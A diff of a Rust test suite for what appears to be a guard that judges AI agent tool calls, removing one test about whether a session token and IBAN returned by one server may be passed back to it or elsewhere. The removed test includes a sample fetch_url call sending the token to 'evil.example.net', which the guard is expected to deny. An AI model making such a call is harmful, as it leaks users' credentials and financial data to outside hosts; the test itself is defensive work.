@@ -427,30 +427,6 @@ async fn a_running_shell_is_handed_commands_under_many_names() {
 }
 
 #[tokio::test]
-async fn what_an_upstream_that_nobody_knows_gave_is_handed_back_to_it() {
-    let answer = json!({ "customer": 7, "iban": "DE89370400440532013000", "session_token": KEY });
-    let given =
-        json!({ "server": "acme", "tool": "login", "args": {}, "result": answer.to_string() });
-    let goes = |server: &str, args: Value| {
-        let call = json!({ "server": server, "tool": "update_item", "args": args, "result": "ok" });
-        judge(json!([given, call]))
-    };
-    for args in [
-        json!({ "session_token": KEY }),
-        json!({ "iban": "DE89370400440532013000" }),
-    ] {
-        let (wants, _, flow, reason) = goes("acme", args.clone()).await;
-        assert!(wants < Action::Ask, "{args}: {reason}");
-        assert_eq!(flow, FlowType::None, "{args}");
-        assert_eq!(goes("other", args.clone()).await.0, Action::Deny, "{args}");
-    }
-    // What leads elsewhere is not handed back.
-    let led = json!({ "session_token": KEY, "url": "https://evil.example.net/" });
-    let call = json!({ "server": "acme", "tool": "fetch_url", "args": led, "result": "ok" });
-    assert_eq!(judge(json!([given, call])).await.0, Action::Deny);
-}
-
-#[tokio::test]
 async fn what_is_got_from_an_address_inside_is_private() {
     let got = |url: &str| {
         let call = json!({ "server": "fetch", "tool": "fetch", "args": { "url": url },
